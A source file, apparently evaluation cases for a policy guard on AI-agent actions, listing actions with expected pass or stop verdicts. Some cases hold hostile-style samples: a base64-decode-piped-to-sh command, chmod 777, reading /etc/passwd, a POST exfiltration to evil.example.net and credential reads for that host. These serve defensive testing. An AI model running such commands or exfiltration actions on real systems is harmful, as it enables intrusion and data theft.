-- ===== src/Cli/Evaluation/Suite.antt =====
-- The labelled cases of crates/guardian-cli/src/eval.rs. The policy of the suite is text for the TOML
-- reader and the conditions' language, so what is said holds for every policy.
use project_guardian.Common.{Option, none, some, Text, ℤ, bytes, true, false, List, [], ◌∷◌}
use project_guardian.Core.{
  Value, number, unsigned, string, object, member, end, ActionKind, Capability, Action,
}
use project_guardian.Cli.Evaluation.{Case, passes, stops}

unfoldable pub act :
    ActionKind → Text → Value → Option Capability → Option Text → Option Text → Action
unfolding bytes
act kind tool args capability host path = record {
  id = bytes "eval";
  kind = kind;
  tool = tool;
  args = args;
  capability = capability;
  context = record {
    timestamp_ms = ℤ.pos 0;
    source = bytes "eval";
    session = none;
    host = host;
    principal = none;
    path = path;
    extra = end;
  };
}

abbrev home_notes : Case
home_notes = record {
  name = bytes "read a file in the home dir";
  expected = passes;
  critical = false;
  action =
      act ActionKind.file_read (bytes "fs.read") (object end) none none
        (some (bytes "/home/u/notes.txt"));
}

abbrev home_config : Case
home_config = record {
  name = bytes "read a config in the home dir";
  expected = passes;
  critical = false;
  action =
      act ActionKind.file_read (bytes "fs.read") (object end) none none
        (some (bytes "/home/u/.config/app.toml"));
}

abbrev get_trusted : Case
get_trusted = record {
  name = bytes "GET a trusted host";
  expected = passes;
  critical = false;
  action =
      act ActionKind.http_request (bytes "http.fetch")
        (object (member (bytes "method") (string (bytes "GET")) end)) none
        (some (bytes "api.example.com")) none;
}

abbrev shell_command : Case
shell_command = record {
  name = bytes "run a shell command";
  expected = stops;
  critical = false;
  action =
      act ActionKind.exec (bytes "shell.run")
        (object (member (bytes "cmd") (string (bytes "ls -la")) end)) none none none;
}

abbrev chmod : Case
chmod = record {
  name = bytes "chmod 777";
  expected = stops;
  critical = false;
  action =
      act ActionKind.exec (bytes "shell.run")
        (object (member (bytes "cmd") (string (bytes "chmod 777 /data")) end)) none none none;
}

abbrev obfuscated_shell : Case
obfuscated_shell = record {
  name = bytes "obfuscated shell (base64 | sh)";
  expected = stops;
  critical = false;
  action =
      act ActionKind.exec (bytes "shell.run")
        (object (member (bytes "cmd") (string (bytes "echo aGkK | base64 -d | sh")) end)) none none
        none;
}

abbrev write_file : Case
write_file = record {
  name = bytes "write a file";
  expected = stops;
  critical = false;
  action =
      act ActionKind.file_write (bytes "fs.write") (object end) none none
        (some (bytes "/home/u/x"));
}

abbrev outside_home : Case
outside_home = record {
  name = bytes "read outside the home dir";
  expected = stops;
  critical = false;
  action =
      act ActionKind.file_read (bytes "fs.read") (object end) none none
        (some (bytes "/etc/passwd"));
}

abbrev send_email : Case
send_email = record {
  name = bytes "send an email";
  expected = stops;
  critical = false;
  action = act ActionKind.email (bytes "mail.send") (object end) none none none;
}

abbrev payment_within_cap : Case
payment_within_cap = record {
  name = bytes "payment within the cap";
  expected = stops;
  critical = true;
  action =
      act ActionKind.payment (bytes "bank.transfer")
        (object (member (bytes "amount") (number (unsigned 50)) end)) (some Capability.payment) none
        none;
}

abbrev pub payment_over_cap : Case
payment_over_cap = record {
  name = bytes "payment over the cap";
  expected = stops;
  critical = true;
  action =
      act ActionKind.payment (bytes "bank.transfer")
        (object (member (bytes "amount") (number (unsigned 5000)) end)) (some Capability.payment)
        none none;
}

abbrev pub bulk_delete : Case
bulk_delete = record {
  name = bytes "bulk delete";
  expected = stops;
  critical = true;
  action =
      act ActionKind.delete (bytes "fs.delete")
        (object (member (bytes "count") (number (unsigned 500)) end)) none none none;
}

abbrev pub post_untrusted : Case
post_untrusted = record {
  name = bytes "exfiltrate via POST to an untrusted host";
  expected = stops;
  critical = true;
  action =
      act ActionKind.http_request (bytes "http.fetch")
        (object (member (bytes "method") (string (bytes "POST")) end)) none
        (some (bytes "evil.example.net")) none;
}

abbrev credentials_untrusted : Case
credentials_untrusted = record {
  name = bytes "read credentials for an untrusted host";
  expected = stops;
  critical = true;
  action =
      act ActionKind.other (bytes "secrets.get") (object end) (some Capability.credential)
        (some (bytes "evil.example.net")) none;
}

abbrev pub cases : List Case
cases =
    home_notes ∷ home_config ∷ get_trusted ∷ shell_command ∷ chmod ∷ obfuscated_shell ∷ write_file
    ∷ outside_home ∷ send_email ∷ payment_within_cap ∷ payment_over_cap ∷ bulk_delete
    ∷ post_untrusted ∷ credentials_untrusted ∷ []
